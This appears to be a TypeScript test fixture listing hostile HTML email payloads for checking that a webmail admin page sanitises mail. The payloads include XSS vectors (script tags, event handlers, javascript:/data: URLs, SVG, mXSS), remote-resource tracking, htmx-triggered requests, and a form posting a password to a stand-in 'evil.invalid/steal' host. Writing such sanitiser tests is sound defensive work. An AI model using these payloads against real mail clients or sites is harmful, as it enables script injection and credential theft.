/**
 * Hostile HTML mail (RELIABILITY I-01…I-04): each payload tries to run script (and so set a
 * `__pwned` canary or open a dialog), reach the network outside the test server
 * (`*.invalid`), navigate, or make the admin send a request (`/pwned-*`, htmx attributes).
 */
export const OUTSIDE = "http://tracker.invalid";

export const HOSTILE: Array<{ name: string; html: string }> = [
  {
    name: "script tags",
    html: `<p>Olá</p><script>window.__pwned="script";parent.__pwned="script";top.__pwned="script";
      alert("script")</script><SCRIPT SRC="${OUTSIDE}/x.js"></SCRIPT>
      <script type="module">import("${OUTSIDE}/m.js")</script>`,
  },
  {
    name: "event handlers",
    html: `<img src="x" onerror="parent.__pwned='onerror';alert('onerror')">
      <body onload="parent.__pwned='onload'"><div onmouseover="parent.__pwned='hover'">hover</div>
      <input autofocus onfocus="parent.__pwned='focus'"><details open ontoggle="parent.__pwned='toggle'">
      <summary>x</summary></details><video><source onerror="parent.__pwned='source'"></video>`,
  },
  {
    name: "javascript: and data: URLs",
    html: `<a id="js-link" href="javascript:parent.__pwned='js';alert('js')">js</a>
      <a id="vb-link" href="vbscript:msgbox(1)">vb</a>
      <a id="data-link" href="data:text/html,<script>alert('data')</script>">data</a>
      <iframe src="data:text/html,<script>parent.__pwned='data-iframe'</script>"></iframe>
      <object data="data:text/html,<script>parent.__pwned='data-object'</script>"></object>
      <embed src="data:text/html,<script>parent.__pwned='data-embed'</script>">
      <img src="javascript:parent.__pwned='img-js'">`,
  },
  {
    name: "SVG with script",
    html: `<svg onload="parent.__pwned='svg-onload'"><script>parent.__pwned='svg-script'</script>
      <animate attributeName="href" values="javascript:parent.__pwned='animate'"/>
      <a id="svg-link"><text x="10" y="20">click</text></a>
      <image href="${OUTSIDE}/svg.png"/><foreignObject><img src="${OUTSIDE}/fo.png"></foreignObject>
      </svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned=1'/>">`,
  },
  {
    name: "CSS expressions and url()",
    html: `<style>@import url(${OUTSIDE}/import.css); body{background:url(${OUTSIDE}/bg.png)}
      @font-face{font-family:x;src:url(${OUTSIDE}/font.woff)} p{font-family:x}</style>
      <link rel="stylesheet" href="${OUTSIDE}/link.css">
      <div style="background-image:url(${OUTSIDE}/inline.png);color:red">css</div>
      <div style="width:expression(parent.__pwned='expression')">expr</div>
      <div style="background:u\\72l(${OUTSIDE}/escaped.png)">escaped</div>
      <div style="behavior:url(${OUTSIDE}/x.htc);-moz-binding:url(${OUTSIDE}/x.xml)">binding</div>`,
  },
  {
    name: "meta refresh and base",
    html: `<meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
      <base href="http://evil.invalid/"><a id="relative" href="relative">relative</a>
      <meta http-equiv="Content-Security-Policy" content="default-src *">`,
  },
  {
    name: "forms",
    html: `<form id="f" action="http://evil.invalid/steal" method="post"><input name="password"
      value="x"><button id="submit" type="submit">Entrar</button></form>
      <form action="/logout" method="post"><button formaction="/pwned-form">x</button></form>
      <isindex action="http://evil.invalid/isindex">`,
  },
  {
    name: "htmx attributes",
    html: `<div hx-get="/api/v1/accounts" hx-trigger="load" hx-target="body">h</div>
      <button hx-post="/logout" hx-trigger="load">logout</button>
      <div data-hx-get="/pwned-htmx" data-hx-trigger="load">d</div>
      <div hx-on:htmx:load="parent.__pwned='hx-on'" hx-get="/pwned-hxon" hx-trigger="load">o</div>
      <button hx-delete="/rules/1" hx-trigger="load">del</button>`,
  },
  {
    name: "remote images",
    html: `<img src="${OUTSIDE}/px.gif" width="1" height="1"><img src="//tracker.invalid/proto.gif">
      <img srcset="${OUTSIDE}/srcset.png 1x"><picture><source srcset="${OUTSIDE}/source.png">
      <img src="${OUTSIDE}/picture.png"></picture><table background="${OUTSIDE}/table.png"><tr>
      <td background="${OUTSIDE}/td.png">cell</td></tr></table>
      <video poster="${OUTSIDE}/poster.png" src="${OUTSIDE}/v.mp4"></video>
      <audio src="${OUTSIDE}/a.mp3" autoplay></audio><input type="image" src="${OUTSIDE}/input.png">`,
  },
  {
    name: "frames, objects, mXSS and a break-out",
    html: `<iframe src="http://evil.invalid/frame"></iframe><object data="http://evil.invalid/o">
      </object><embed src="http://evil.invalid/e">
      <math><mtext><table><mglyph><style><img src=x onerror="parent.__pwned='mxss'">
      </style></mglyph></table></mtext></math>
      <noscript><p title="</noscript><img src=x onerror=parent.__pwned='noscript'>"></noscript>
      <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>
      <img src=x onerror=parent.__pwned='nested-form'>"></style></mtext></svg></mglyph></form>
      "></iframe><script>parent.__pwned='breakout'</script>`,
  },
];

/** A subject and a sender name that would be script if the page did not escape them. */
export const HOSTILE_SUBJECT =
  `<script>window.__pwned="subject"</script><img src=x onerror="window.__pwned='subject-img'">`;
export const HOSTILE_FROM = `"<svg onload=window.__pwned='from'>" <eve@evil.invalid>`;
